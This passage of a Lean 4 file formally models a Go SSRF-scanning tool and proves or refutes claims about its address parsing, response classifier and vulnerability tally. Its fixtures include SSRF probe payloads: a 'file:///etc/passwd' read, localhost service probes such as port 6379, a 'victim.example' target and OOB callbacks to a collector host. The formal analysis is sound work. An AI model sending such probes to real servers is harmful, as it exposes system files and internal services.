/-- The packed `net.CIDRMask(n, 32)`: `n` one-bits followed by `32 - n`
zero-bits. -/
def maskOf (n : Nat) : Nat :=
  2 ^ 32 - 2 ^ (32 - n)

/-- Embedding of `ipNet.Contains(ip)` for an IPv4 network: masking the
address yields the network address. -/
def cidrContains (network mask ip : Nat) : Bool :=
  ip.land mask == network

/-- The iteration `for ip := base; ipNet.Contains(ip); inc(ip)` of
`parseCIDR`, collecting the visited addresses.  The loop terminates when the
incremented address leaves the network; the explicit fuel only bounds the
recursion and `2^32` fuel is never exhausted for prefix lengths ≥ 1. -/
def cidrLoop (network mask : Nat) : Nat → Nat → List Nat
  | 0, _ => []
  | fuel + 1, ip =>
    if cidrContains network mask ip then ip :: cidrLoop network mask fuel (ipInc ip)
    else []

/-- Embedding of the repository's `parseCIDR` after `net.ParseCIDR`
succeeded, at the packed-address level: walk the network from its masked
base, then cut off the first and last entries when more than two were
collected. -/
def parseCIDRNat (ip : Nat) (prefixLen : Nat) : List Nat :=
  let mask := maskOf prefixLen
  let network := ip.land mask
  let ips := cidrLoop network mask (2 ^ 32) network
  if ips.length > 2 then (ips.drop 1).dropLast else ips

/-- Model of `net.ParseCIDR`'s string splitting: the address before the first
`/`, the decimal prefix length (0–32) after it. -/
def goParseCIDRStr (s : String) : Option (Nat × Nat) :=
  match goSplit s '/' with
  | [addr, maskStr] =>
    match goParseIPv4 addr with
    | none => none
    | some ip =>
      if maskStr.data.length == 0 ∨ ¬ maskStr.data.all isDigitChar then none
      else
        let n := maskStr.data.foldl (fun acc c => acc * 10 + (c.toNat - 48)) 0
        if n ≤ 32 then some (ip, n) else none
  | _ => none

/-- Embedding of `parseCIDR(cidr)` (config.go lines 239–259): parse, walk the
network, strip network/broadcast addresses when the block has more than two
entries, and render each address with `IP.String()`. -/
def parseCIDR (cidr : String) : Except String (List String) :=
  match goParseCIDRStr cidr with
  | none => .error ("invalid CIDR address: " ++ cidr)
  | some pr => .ok ((parseCIDRNat pr.1 pr.2).map ipString)

/-- Model of `fmt.Sscanf(s, "%d", &x)` on an already-trimmed string: an
optional sign followed by at least one digit; trailing bytes are ignored. -/
def goSscanfD (s : String) : Option Int :=
  let core (l : List Char) (sign : Int) : Option Int :=
    let digits := l.takeWhile isDigitChar
    if digits.isEmpty then none
    else some (sign * Int.ofNat (digits.foldl (fun acc c => acc * 10 + (c.toNat - 48)) 0))
  match s.data with
  | '-' :: rest => core rest (-1)
  | '+' :: rest => core rest 1
  | l => core l 1

/-- The generation loop of `parseIPRange`: append the current address, stop
once it reaches `endIP`, otherwise increment.  `endIP - startIP + 1` fuel is
exactly the number of iterations the Go loop performs when
`startIP ≤ endIP`. -/
def rangeLoop (endIP : Nat) : Nat → Nat → List Nat
  | _, 0 => []
  | cur, fuel + 1 =>
    cur :: (if endIP ≤ cur then [] else rangeLoop endIP (ipInc cur) fuel)

/-- Embedding of `parseIPRange(rangeStr)` (config.go lines 262–329).
`compareIP` on 4-byte addresses is numeric comparison of the packed values.
IPv6 start/end addresses are subsumed into the parse-failure branches (the
source distinguishes them only by a different message). -/
def parseIPRange (rangeStr : String) : Except String (List String) :=
  match goSplit rangeStr '-' with
  | [a, b] =>
    let startIPStr := goTrimSpace a
    let endIPStr := goTrimSpace b
    match goParseIPv4 startIPStr with
    | none => .error ("无效的起始IP: " ++ startIPStr)
    | some startIP =>
      let endRes : Except String Nat :=
        if strHasChar endIPStr '.' then
          match goParseIPv4 endIPStr with
          | none => .error ("无效的结束IP: " ++ endIPStr)
          | some e => .ok e
        else
          match goSscanfD endIPStr with
          | none => .error ("无效的结束IP格式: " ++ endIPStr)
          | some z =>
            if z < 0 ∨ z > 255 then
              .error ("IP最后一位必须在0-255之间: " ++ toString z)
            else .ok (startIP / 256 * 256 + z.toNat)
      match endRes with
      | .error e => .error e
      | .ok endIP =>
        if endIP < startIP then
          .error ("起始IP不能大于结束IP: " ++ startIPStr ++ "-" ++ ipString endIP)
        else .ok ((rangeLoop endIP startIP (endIP - startIP + 1)).map ipString)
  | _ => .error ("无效的IP范围格式: " ++ rangeStr)

/-- The hostname character class of `parseInternalIPs`: letters, digits,
`.`, `-`, `_` (the source iterates over runes; code points are compared). -/
def isHostnameChar (c : Char) : Bool :=
  (97 ≤ c.toNat && c.toNat ≤ 122) || (65 ≤ c.toNat && c.toNat ≤ 90) ||
  (48 ≤ c.toNat && c.toNat ≤ 57) || c == '.' || c == '-' || c == '_'

/-- Embedding of `parseInternalIPs(ipStr)` (config.go lines 193–236): trim;
reject empty; a `-` without `/` goes to the range parser; a `/` goes to the
CIDR parser; a valid IP literal or a string of hostname characters is
returned verbatim as a one-element list (no DNS resolution happens
anywhere); anything else is an error. -/
def parseInternalIPs (ipStr0 : String) : Except String (List String) :=
  let ipStr := goTrimSpace ipStr0
  if ipStr == "" then .error "目标地址不能为空"
  else if strHasChar ipStr '-' && !(strHasChar ipStr '/') then parseIPRange ipStr
  else if strHasChar ipStr '/' then parseCIDR ipStr
  else if (goParseIPv4 ipStr).isSome then .ok [ipStr]
  else if ipStr.data.all isHostnameChar then .ok [ipStr]
  else .error ("无效的目标地址格式: " ++ ipStr ++ " (仅支持字母、数字、点、中划线、下划线)")

/-! ## Shared concrete fixtures -/

deriving instance DecidableEq for Except

/-- A parsed sample target URL used in concrete instantiations. -/
def sampleURL : GoURL :=
  { scheme := gs "http", host := gs "victim.example", path := gs "/api",
    rawQuery := gs "x=1", fragment := [] }

/-- A validated sample configuration used in concrete instantiations. -/
def sampleConfig : GoConfig :=
  { TargetURL := sampleURL, PayloadFile := "", ParamName := "url", Method := "GET",
    OOBServer := "", InternalNet := "", Ports := "", ScanAll := false,
    Threads := 10, Timeout := 10, DelayTime := 0, OutputFile := "",
    CustomHeaders := [], InternalIPs := [], PortList := [] }

/-! ## Claim C4: keywords of ports missing from the static table -/

/-- C4 counterexample: the static table has no entry for port 21, and the
lookup — and hence the port-21 probe generated for the default high-risk
list — yields the empty keyword set, not the generic
`{"HTTP/", "Server:"}` pair the claim asserts. -/
theorem claim_C4_counterexample :
    getServiceKeywordsByPort 21 = [] ∧
    getServiceKeywordsByPort 21 ≠ ["HTTP/", "Server:"] ∧
    ((GetPortScanPayloads [] [] true).find?
        (fun p => p.Value == "http://127.0.0.1:21")).map Payload.Keywords = some [] := by
  refine ⟨rfl, by decide, by decide⟩

/-- C4 (amended): for every port with no entry in the static port→keywords
table — in particular 21, 22, 445, 3389, 5000, 5984, 8086 and 9000 from the
default high-risk list — the keyword set is empty; there is no fallback to
the generic pair. -/
theorem claim_C4_thm (port : Nat)
    (h : port ∉ ([6379, 3306, 5432, 27017, 9200, 11211, 2375, 80, 443, 8080, 8888] : List Nat)) :
    getServiceKeywordsByPort port = [] := by
  simp only [List.mem_cons, List.not_mem_nil, or_false, not_or] at h
  unfold getServiceKeywordsByPort
  split <;> first | rfl | omega

/-- C4 witness: the amended theorem applied at port 21. -/
theorem claim_C4_witness :
    21 ∉ ([6379, 3306, 5432, 27017, 9200, 11211, 2375, 80, 443, 8080, 8888] : List Nat) ∧
    getServiceKeywordsByPort 21 = [] :=
  ⟨by decide, claim_C4_thm 21 (by decide)⟩

/-! ## Claim C6: keyword matches dominate the classifier -/

/-- C6 (confirmed): whenever the probe's keyword set is non-empty and some
keyword occurs in the body, the classifier returns vulnerable with evidence
naming a matched keyword, whatever the status code, headers, body length or
sensitive-token content — rule 1 fires before every later rule. -/
theorem claim_C6_thm (resp : HTTPResp) (body : String) (p : Payload)
    (_hne : p.Keywords ≠ [])
    (hmatch : ∃ k, k ∈ p.Keywords ∧ goContains body k = true) :
    (analyzeResponse resp body p).1 = true ∧
    ∃ k, k ∈ p.Keywords ∧ goContains body k = true ∧
      (analyzeResponse resp body p).2 = "响应中包含特征关键字: " ++ k := by
  obtain ⟨k0, hk0, hc0⟩ := hmatch
  have hfind : (p.Keywords.find? (fun keyword => goContains body keyword)).isSome := by
    rw [List.find?_isSome]
    exact ⟨k0, hk0, hc0⟩
  obtain ⟨k, hk⟩ := Option.isSome_iff_exists.mp hfind
  have hmem := List.mem_of_find?_eq_some hk
  have hprop := List.find?_some hk
  unfold analyzeResponse
  rw [hk]
  exact ⟨rfl, k, hmem, hprop, rfl⟩

/-- The `/etc/passwd` file-read probe (first entry of `GetFileReadPayloads`),
as a named fixture. -/
def passwdPayload : Payload :=
  { Value := "file:///etc/passwd", Typ := "文件读取",
    Description := "读取Linux系统用户文件", Severity := "high",
    Keywords := ["root:", "bin:", "daemon:", "nobody:"] }

/-- C6 witness: the `/etc/passwd` file-read probe against a body that
contains both the keyword `root:` and sensitive tokens. -/
theorem claim_C6_witness :
    (passwdPayload.Keywords ≠ [] ∧
      ∃ k, k ∈ passwdPayload.Keywords ∧
        goContains "root:x:0:0: password localhost" k = true) ∧
    ((analyzeResponse ⟨200, "nginx"⟩ "root:x:0:0: password localhost" passwdPayload).1 = true ∧
      ∃ k, k ∈ passwdPayload.Keywords ∧
        goContains "root:x:0:0: password localhost" k = true ∧
        (analyzeResponse ⟨200, "nginx"⟩ "root:x:0:0: password localhost" passwdPayload).2 =
          "响应中包含特征关键字: " ++ k) :=
  ⟨⟨by decide, by decide⟩,
    claim_C6_thm ⟨200, "nginx"⟩ "root:x:0:0: password localhost" passwdPayload
      (by decide) (by decide)⟩

/-! ## Claim C3: OOB probes are flagged vulnerable, not pending -/

/-- C3 counterexample: both OOB probes, on a 2xx response that triggers no
earlier rule, come back as `vulnerable = true` (with the "request sent,
check the collector" evidence text), and flow through the tally as
vulnerabilities — there is no distinct pending-confirmation state. -/
theorem claim_C3_counterexample :
    ((GetOOBPayloads "http://collector.example").map
        (fun p => analyzeResponse ⟨204, ""⟩ "" p)) =
      [(true, "OOB请求已发送，请检查OOB服务器是否收到回连"),
       (true, "OOB请求已发送，请检查OOB服务器是否收到回连")] ∧
    runTally ((GetOOBPayloads "http://collector.example").filterMap
        (fun p => testPayloadOutcome sampleConfig "url" p (.ok 204 "" ""))) = 2 := by
  refine ⟨by decide, by decide⟩

/-- C3 (amended): for every OOB probe (empty keyword set, type `OOB检测`)
whose response status lies in [200,400) and triggers none of the earlier
classifier rules, the classifier returns `vulnerable = true` with the
evidence string "OOB请求已发送，请检查OOB服务器是否收到回连"; such an
outcome increments the run tally like any other vulnerable outcome. -/
theorem claim_C3_thm (status : Nat) (serverHeader body : String) (p : Payload)
    (hkw : p.Keywords = []) (htyp : p.Typ = "OOB检测")
    (hlo : 200 ≤ status) (hhi : status < 400)
    (h3 : (if goLen body > 200 then sensitiveMatch body else none) = none)
    (h401 : status ≠ 401) (h403 : status ≠ 403)
    (h5 : serverHeader = "" ∨
      containsAny serverHeader ["Redis", "MySQL", "nginx", "Apache", "Microsoft"] = false) :
    analyzeResponse ⟨status, serverHeader⟩ body p =
      (true, "OOB请求已发送，请检查OOB服务器是否收到回连") ∧
    (∀ c : Nat, tallyStep c
        { statusCode := status, responseLen := goLen body,
          vulnerable := (analyzeResponse ⟨status, serverHeader⟩ body p).1,
          evidence := (analyzeResponse ⟨status, serverHeader⟩ body p).2,
          errorMessage := "" } = c + 1) := by
  have hmain : analyzeResponse ⟨status, serverHeader⟩ body p =
      (true, "OOB请求已发送，请检查OOB服务器是否收到回连") := by
    unfold analyzeResponse
    rw [hkw]
    simp only [List.find?_nil]
    rw [htyp]
    have hT1 : (("OOB检测" : String) == "端口扫描") = false := by decide
    have hT2 : (("OOB检测" : String) == "文件读取") = false := by decide
    simp only [hT1, Bool.false_and, Bool.and_false, if_false, Bool.false_eq_true, if_neg,
      hT2, h3]
    have h4 : (status == 401 || status == 403) = false := by
      simp [Nat.beq_eq, h401, h403]
    rw [h4]
    simp only [Bool.false_eq_true, if_false]
    have h5' : (serverHeader != "" &&
        containsAny serverHeader ["Redis", "MySQL", "nginx", "Apache", "Microsoft"]) = false := by
      rcases h5 with h | h
      · subst h; decide
      · rw [h]; simp
    rw [h5']
    simp only [Bool.false_eq_true, if_false]
    have h6 : (("OOB检测" : String) == "OOB检测" &&
        (decide (200 ≤ status) && decide (status < 400))) = true := by
      simp [hlo, hhi]
    rw [h6]
    simp
  refine ⟨hmain, fun c => ?_⟩
  rw [hmain]
  simp [tallyStep]

/-- C3 witness: the amended theorem at a concrete 204 response for the HTTP
OOB probe. -/
theorem claim_C3_witness :
    (({ Value := "http://collector.example/callback?id=http-test", Typ := "OOB检测",
        Description := "HTTP回连测试", Severity := "high",
        Keywords := [] } : Payload).Keywords = []) ∧
    analyzeResponse ⟨204, ""⟩ ""
      { Value := "http://collector.example/callback?id=http-test", Typ := "OOB检测",
        Description := "HTTP回连测试", Severity := "high", Keywords := [] } =
      (true, "OOB请求已发送，请检查OOB服务器是否收到回连") :=
  ⟨rfl,
    (claim_C3_thm 204 "" ""
      { Value := "http://collector.example/callback?id=http-test", Typ := "OOB检测",
        Description := "HTTP回连测试", Severity := "high", Keywords := [] }
      rfl rfl (by decide) (by decide) (by decide) (by decide) (by decide)
      (Or.inl rfl)).1⟩

/-! ## Claim C1: method validation versus per-probe request building -/

/-- C1 counterexample: `DELETE` passes configuration validation (so it is not
rejected as a fatal configuration error), yet building a probe request for it
fails per-probe, and `testPayload` then skips the probe silently (no events
at all). -/
theorem claim_C1_counterexample :
    validateMethodOk "DELETE" = true ∧
    buildTestRequest "DELETE" sampleURL (gs "url") (gs "http://127.0.0.1:6379") =
      .error (.unsupportedMethod "DELETE") ∧
    testPayloadEvents { sampleConfig with Method := "DELETE" } "url" passwdPayload
      (.ok 200 "" "") = [] := by
  refine ⟨rfl, by decide, by decide⟩

/-- C1 (amended): validation accepts exactly GET, POST, PUT, DELETE, PATCH,
HEAD and OPTIONS (after upper-casing); request building succeeds exactly for
GET, POST, PUT and PATCH; for a validated method outside that set (DELETE,
HEAD, OPTIONS) every probe's request build fails and the probe is skipped
silently — the mismatch is not caught at validation time. -/
theorem claim_C1_thm (method : String) :
    (validateMethodOk method = true ↔
      goToUpper method ∈ (["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"] : List String)) ∧
    (∀ (u : GoURL) (paramName payload : GoStr),
      (buildTestRequest method u paramName payload).isOk = true ↔
        goToUpper method ∈ (["GET", "POST", "PUT", "PATCH"] : List String)) ∧
    (∀ (cfg : GoConfig) (param : String) (p : Payload) (tr : TransportResult),
      cfg.Method = method →
      goToUpper method ∉ (["GET", "POST", "PUT", "PATCH"] : List String) →
      testPayloadEvents cfg param p tr = []) := by
  have hbuild : ∀ (u : GoURL) (paramName payload : GoStr),
      (buildTestRequest method u paramName payload).isOk = true ↔
        goToUpper method ∈ (["GET", "POST", "PUT", "PATCH"] : List String) := by
    intro u pn pl
    by_cases h1 : goToUpper method = "GET" <;>
      by_cases h2 : goToUpper method = "POST" <;>
        by_cases h3 : goToUpper method = "PUT" <;>
          by_cases h4 : goToUpper method = "PATCH" <;>
            simp [buildTestRequest, h1, h2, h3, h4, Except.isOk, Except.toBool]
  refine ⟨?_, hbuild, ?_⟩
  · simp only [validateMethodOk, Bool.or_eq_true, beq_iff_eq, List.mem_cons,
      List.not_mem_nil, or_false]
    tauto
  · intro cfg param p tr hm hnot
    have hfail : (buildTestRequest cfg.Method cfg.TargetURL (gs param) (gs p.Value)).isOk = false := by
      rw [hm]
      rcases hiff : (buildTestRequest method cfg.TargetURL (gs param) (gs p.Value)).isOk with _ | _
      · rfl
      · exact absurd ((hbuild cfg.TargetURL (gs param) (gs p.Value)).mp hiff) hnot
    unfold testPayloadEvents
    cases hb : buildTestRequest cfg.Method cfg.TargetURL (gs param) (gs p.Value) with
    | error e => rfl
    | ok v => rw [hb] at hfail; simp [Except.isOk, Except.toBool] at hfail

/-- C1 witness: the amended theorem instantiated at `DELETE`, whose
upper-casing is accepted by validation but not by the request builder. -/
theorem claim_C1_witness :
    ({ sampleConfig with Method := "DELETE" } : GoConfig).Method = "DELETE" ∧
    goToUpper "DELETE" ∉ (["GET", "POST", "PUT", "PATCH"] : List String) ∧
    testPayloadEvents { sampleConfig with Method := "DELETE" } "url" passwdPayload
      (.failed "timeout") = [] :=
  ⟨rfl, by decide,
    (claim_C1_thm "DELETE").2.2 { sampleConfig with Method := "DELETE" } "url" passwdPayload
      (.failed "timeout") rfl (by decide)⟩

/-! ## Claim C5: the configured per-request delay -/

/-- C5: the action trace of a probe is invariant under the configured
`DelayTime` and never contains a sleep: the configuration field is parsed
but no code on the probe path reads it, so no inter-probe delay is ever
applied. -/
theorem claim_C5_thm (cfg : GoConfig) (d : Nat) (param : String) (p : Payload)
    (tr : TransportResult) :
    testPayloadEvents { cfg with DelayTime := d } param p tr =
      testPayloadEvents cfg param p tr ∧
    (testPayloadEvents cfg param p tr).all (fun e => !isSleepEvent e) = true := by
  constructor
  · rfl
  · unfold testPayloadEvents
    cases hb : buildTestRequest cfg.Method cfg.TargetURL (gs param) (gs p.Value) with
    | error e => rfl
    | ok v =>
      cases tr with
      | failed rawErr =>
        simp [List.all_append, isSleepEvent]
      | ok status serverHeader body =>
        simp only [List.all_append, List.all_cons, List.all_nil, isSleepEvent]
        split <;> split <;> simp [isSleepEvent]

/-! ## Claim C2: unreadable custom dictionary -/

/-- A configuration pointing at a custom dictionary file. -/
def dictConfig : GoConfig :=
  { sampleConfig with PayloadFile := "mydict.txt" }

/-- An environment in which validation succeeds but opening the dictionary
file fails. -/
def dictFailEnv : RunEnv :=
  { validateErr := none, outputCreateErr := none,
    dictResult := .error "open mydict.txt: no such file or directory",
    transport := fun _ => .failed "connection refused" }

/-- C2 counterexample: with a custom dictionary path whose file is missing,
the process does not abort — the load error is printed once, zero probes are
dispatched, the normal summary is printed with a zero vulnerability count,
and the exit status is 0, not nonzero. -/
theorem claim_C2_counterexample :
    mainModel dictConfig dictFailEnv =
      { exitCode := 0, vulnCount := 0, dictErrorPrinted := true, summaryPrinted := true } := by
  rfl

/-- C2 (amended): when a custom dictionary path is supplied and the file is
missing or unreadable, the dictionary-load error is printed once and the run
then completes normally: no probes run, the summary reports a zero
vulnerability count, and the process exits with status 0 (it does not abort
with nonzero status). -/
theorem claim_C2_thm (cfg : GoConfig) (env : RunEnv) (msg : String)
    (hfile : cfg.PayloadFile ≠ "") (hval : env.validateErr = none)
    (hout : cfg.OutputFile = "") (hdict : env.dictResult = .error msg) :
    mainModel cfg env =
      { exitCode := 0, vulnCount := 0, dictErrorPrinted := true, summaryPrinted := true } := by
  unfold mainModel
  rw [hval]
  have h1 : (cfg.OutputFile != "" && env.outputCreateErr.isSome) = false := by
    rw [hout]; rfl
  rw [h1]
  have h2 : runScanModel cfg env = (0, true) := by
    unfold runScanModel
    have hf : (cfg.PayloadFile != "") = true := by
      simp [bne_iff_ne, hfile]
    rw [hf, hdict]
    rfl
  rw [h2]
  rfl

/-- C2 witness: the amended theorem at the concrete missing-dictionary run. -/
theorem claim_C2_witness :
    (dictConfig.PayloadFile ≠ "" ∧ dictFailEnv.validateErr = none ∧
      dictConfig.OutputFile = "" ∧
      dictFailEnv.dictResult = .error "open mydict.txt: no such file or directory") ∧
    mainModel dictConfig dictFailEnv =
      { exitCode := 0, vulnCount := 0, dictErrorPrinted := true, summaryPrinted := true } :=
  ⟨⟨by decide, rfl, rfl, rfl⟩,
    claim_C2_thm dictConfig dictFailEnv "open mydict.txt: no such file or directory"
      (by decide) rfl rfl rfl⟩

/-! ## Claim C8: the tally equals the number of vulnerable outcomes -/

/-- Folding the tally step from any starting value adds exactly the number of
vulnerable outcomes. -/
theorem runTally_foldl (l : List ScanOutcome) :
    ∀ n : Nat, l.foldl tallyStep n = n + (l.filter (fun o => o.vulnerable)).length := by
  induction l with
  | nil => intro n; simp [List.foldl]
  | cons o t ih =>
    intro n
    cases h : o.vulnerable with
    | true =>
      have hstep : tallyStep n o = n + 1 := by simp [tallyStep, h]
      simp only [List.foldl, hstep, ih (n + 1), List.filter_cons, h, if_true, List.length_cons]
      omega
    | false =>
      have hstep : tallyStep n o = n := by simp [tallyStep, h]
      simp only [List.foldl, hstep, ih n, List.filter_cons, h]
      simp

/-- The run tally is the number of vulnerable outcomes. -/
theorem runTally_eq_count (l : List ScanOutcome) :
    runTally l = (l.filter (fun o => o.vulnerable)).length := by
  unfold runTally
  rw [runTally_foldl l 0]
  omega

/-- C8 (confirmed): the run tally equals the number of outcomes the
classifier flagged vulnerable, it is invariant under any reordering of the
outcomes (dispatch order does not matter), each tally step only ever
increments, and an outcome built by `testPayload` carries exactly the
classifier's verdict. -/
theorem claim_C8_thm (l l' : List ScanOutcome) (hperm : l.Perm l') :
    runTally l = runTally l' ∧
    runTally l = (l.filter (fun o => o.vulnerable)).length ∧
    (∀ (c : Nat) (o : ScanOutcome), c ≤ tallyStep c o) ∧
    (∀ (cfg : GoConfig) (param : String) (p : Payload) (status : Nat)
        (serverHeader body : String) (o : ScanOutcome),
      testPayloadOutcome cfg param p (.ok status serverHeader body) = some o →
      o.vulnerable = (analyzeResponse ⟨status, serverHeader⟩ body p).1) := by
  refine ⟨?_, runTally_eq_count l, ?_, ?_⟩
  · rw [runTally_eq_count l, runTally_eq_count l',
      (hperm.filter (fun o => o.vulnerable)).length_eq]
  · intro c o
    unfold tallyStep
    split <;> omega
  · intro cfg param p status serverHeader body o h
    unfold testPayloadOutcome at h
    cases hb : buildTestRequest cfg.Method cfg.TargetURL (gs param) (gs p.Value) with
    | error e => rw [hb] at h; exact absurd h (by simp)
    | ok v =>
      rw [hb] at h
      simp only [Option.some.injEq] at h
      rw [← h]

/-- C8 witness: two outcomes in both orders, with one vulnerable outcome. -/
theorem claim_C8_witness :
    (([⟨200, 10, true, "e", ""⟩, ⟨404, 0, false, "", ""⟩] : List ScanOutcome).Perm
        [⟨404, 0, false, "", ""⟩, ⟨200, 10, true, "e", ""⟩]) ∧
    runTally [⟨200, 10, true, "e", ""⟩, ⟨404, 0, false, "", ""⟩] =
      runTally [⟨404, 0, false, "", ""⟩, ⟨200, 10, true, "e", ""⟩] ∧
    runTally [⟨200, 10, true, "e", ""⟩, ⟨404, 0, false, "", ""⟩] =
      (([⟨200, 10, true, "e", ""⟩, ⟨404, 0, false, "", ""⟩] : List ScanOutcome).filter
        (fun o => o.vulnerable)).length :=
  have hperm : (([⟨200, 10, true, "e", ""⟩, ⟨404, 0, false, "", ""⟩] : List ScanOutcome).Perm
      [⟨404, 0, false, "", ""⟩, ⟨200, 10, true, "e", ""⟩]) := List.Perm.swap _ _ _
  ⟨hperm, (claim_C8_thm _ _ hperm).1, (claim_C8_thm _ _ hperm).2.1⟩

/-! ## Claim C9: hostname inputs to address parsing -/

/-- `dropWhile` is the identity when no element satisfies the predicate. -/
theorem dropWhile_eq_self_of_all {α : Type} (p : α → Bool) (l : List α)
    (h : ∀ c ∈ l, p c = false) : l.dropWhile p = l := by
  cases l with
  | nil => rfl
  | cons c cs =>
    rw [List.dropWhile_cons]
    simp [h c (List.mem_cons_self c cs)]

/-- Hostname-class characters are never trimmed by `TrimSpace`. -/
theorem hostname_not_space (c : Char) (h : isHostnameChar c = true) :
    isGoSpace c = false := by
  have hn : ¬ (c.toNat = 32 ∨ (9 ≤ c.toNat ∧ c.toNat ≤ 13) ∨ c.toNat = 133 ∨ c.toNat = 160) := by
    simp only [isHostnameChar, Bool.or_eq_true, Bool.and_eq_true, decide_eq_true_eq,
      beq_iff_eq] at h
    rcases h with ((((h | h) | h) | h) | h) | h
    · omega
    · omega
    · omega
    · subst h; decide
    · subst h; decide
    · subst h; decide
  rw [← Bool.not_eq_true]
  intro ht
  apply hn
  have ht' := ht
  simp only [isGoSpace, Bool.or_eq_true, Bool.and_eq_true, decide_eq_true_eq,
    beq_iff_eq, Nat.beq_eq] at ht'
  tauto

/-- `TrimSpace` is the identity on strings with no trimmable characters. -/
theorem goTrimSpace_eq_self (s : String) (h : ∀ c ∈ s.data, isGoSpace c = false) :
    goTrimSpace s = s := by
  obtain ⟨data⟩ := s
  unfold goTrimSpace
  simp only at h ⊢
  rw [dropWhile_eq_self_of_all isGoSpace data h,
    dropWhile_eq_self_of_all isGoSpace data.reverse
      (fun c hc => h c (List.mem_reverse.mp hc)),
    List.reverse_reverse]

/-- C9 counterexample: `internal-api` satisfies every hypothesis of the claim
(no slash, not an IP literal, only characters from `[A-Za-z0-9._-]`), yet
address parsing fails with an invalid-start-IP error instead of returning the
hostname verbatim — the hyphen routes it into the IP-range parser. -/
theorem claim_C9_counterexample :
    strHasChar "internal-api" '/' = false ∧
    goParseIPv4 "internal-api" = none ∧
    (∀ c ∈ ("internal-api" : String).data, isHostnameChar c = true) ∧
    parseInternalIPs "internal-api" = .error "无效的起始IP: internal" := by
  refine ⟨rfl, rfl, by decide, by decide⟩

/-- C9 (amended): for every non-empty input that contains no `/` and also no
`-`, is not an IPv4 literal, and consists only of characters from
`[A-Za-z0-9._-]`, address parsing returns the string verbatim as a
one-element list (and performs no resolution — the embedding is pure).
Inputs containing `-` are instead routed to the IP-range parser, so
hyphenated hostnames such as `internal-api` are rejected. -/
theorem claim_C9_thm (s : String)
    (hslash : strHasChar s '/' = false)
    (hdash : strHasChar s '-' = false)
    (hne : s ≠ "")
    (hip : goParseIPv4 s = none)
    (hchars : ∀ c ∈ s.data, isHostnameChar c = true) :
    parseInternalIPs s = .ok [s] := by
  have htrim : goTrimSpace s = s :=
    goTrimSpace_eq_self s (fun c hc => hostname_not_space c (hchars c hc))
  unfold parseInternalIPs
  rw [htrim]
  have hne' : (s == "") = false := by
    simp [hne]
  have hall : s.data.all isHostnameChar = true := List.all_eq_true.mpr hchars
  simp only [hne', Bool.false_eq_true, if_false, hdash, hslash, Bool.false_and,
    Bool.and_false, hip, Option.isSome_none, hall, if_true]

/-- C9 witness: the amended theorem at the dotted hostname `internal.api`. -/
theorem claim_C9_witness :
    (strHasChar "internal.api" '/' = false ∧
      strHasChar "internal.api" '-' = false ∧
      ("internal.api" : String) ≠ "" ∧
      goParseIPv4 "internal.api" = none ∧
      ∀ c ∈ ("internal.api" : String).data, isHostnameChar c = true) ∧
    parseInternalIPs "internal.api" = .ok ["internal.api"] :=
  ⟨⟨rfl, rfl, by decide, rfl, by decide⟩,
    claim_C9_thm "internal.api" rfl rfl (by decide) rfl (by decide)⟩

/-! ## Claim C7: CIDR expansion -/

/-- Masking with the high-ones mask keeps the quotient: `land` with
`2^32 - 2^h` clears the low `h` bits. -/
theorem land_highmask (ip h : Nat) (hip : ip < 2 ^ 32) (hh : h ≤ 32) :
    ip.land (2 ^ 32 - 2 ^ h) = ip / 2 ^ h * 2 ^ h := by
  apply Nat.eq_of_testBit_eq
  intro j
  have hland : ip.land (2 ^ 32 - 2 ^ h) = ip &&& (2 ^ 32 - 2 ^ h) := rfl
  rw [hland, Nat.testBit_land]
  have hmask : (2 : Nat) ^ 32 - 2 ^ h = (2 ^ (32 - h) - 1) <<< h := by
    rw [Nat.shiftLeft_eq, Nat.sub_mul, ← Nat.pow_add, Nat.one_mul]
    congr 2
    omega
  have hdiv : ip / 2 ^ h * 2 ^ h = (ip >>> h) <<< h := by
    rw [Nat.shiftRight_eq_div_pow, Nat.shiftLeft_eq]
  rw [hmask, hdiv, Nat.testBit_shiftLeft, Nat.testBit_shiftLeft, Nat.testBit_shiftRight]
  by_cases hj : h ≤ j
  · have hdec : decide (j ≥ h) = true := decide_eq_true hj
    rw [hdec, Bool.true_and, Bool.true_and, Nat.testBit_two_pow_sub_one]
    have hadd : h + (j - h) = j := by omega
    rw [hadd]
    by_cases hj32 : j < 32
    · have hd2 : decide (j - h < 32 - h) = true := decide_eq_true (by omega)
      rw [hd2, Bool.and_true]
    · have h1 : Nat.testBit ip j = false :=
        Nat.testBit_lt_two_pow
          (lt_of_lt_of_le hip (Nat.pow_le_pow_right (by norm_num) (by omega)))
      rw [h1]
      simp
  · have hdec : decide (j ≥ h) = false := decide_eq_false hj
    rw [hdec]
    simp

/-- The consecutive addresses `start, start+1, …, start+count-1`. -/
def addrRange (start : Nat) : Nat → List Nat
  | 0 => []
  | c + 1 => start :: addrRange (start + 1) c

/-- `addrRange` as a mapped range. -/
theorem addrRange_eq (count : Nat) :
    ∀ start, addrRange start count = (List.range count).map (fun i => start + i) := by
  induction count with
  | zero => intro start; rfl
  | succ c ih =>
    intro start
    show start :: addrRange (start + 1) c = _
    rw [ih (start + 1)]
    simp only [List.range_succ_eq_map, List.map_cons, List.map_map, Function.comp_apply,
      Nat.succ_eq_add_one, Nat.add_zero]
    congr 1
    apply List.map_congr_left
    intro a _
    simp only [Function.comp_apply, Nat.succ_eq_add_one]
    omega

/-- The CIDR walk visits exactly `count` consecutive addresses when the
network contains the first `count` values starting at `start` and not the
next one (wrap-around to 0 at the top of the address space included). -/
theorem cidrLoop_spec (network mask : Nat) :
    ∀ (count start fuel : Nat), count ≤ fuel → start < 2 ^ 32 → start + count ≤ 2 ^ 32 →
    (∀ i, i < count → cidrContains network mask (start + i) = true) →
    cidrContains network mask ((start + count) % 2 ^ 32) = false →
    cidrLoop network mask fuel start = addrRange start count := by
  intro count
  induction count with
  | zero =>
    intro start fuel _ hlt _ _ hstop
    have hmod : (start + 0) % 2 ^ 32 = start := by
      rw [Nat.add_zero]
      exact Nat.mod_eq_of_lt hlt
    rw [hmod] at hstop
    cases fuel with
    | zero => simp [cidrLoop, addrRange]
    | succ f =>
      unfold cidrLoop
      rw [hstop]
      simp [addrRange]
  | succ c ih =>
    intro start fuel hfuel hlt hle hcont hstop
    cases fuel with
    | zero => omega
    | succ f =>
      have hc0 : cidrContains network mask start = true := by
        have h := hcont 0 (by omega)
        rwa [Nat.add_zero] at h
      unfold cidrLoop
      rw [hc0]
      simp only [if_true]
      show start :: cidrLoop network mask f (ipInc start) = start :: addrRange (start + 1) c
      by_cases hwrap : start + 1 = 2 ^ 32
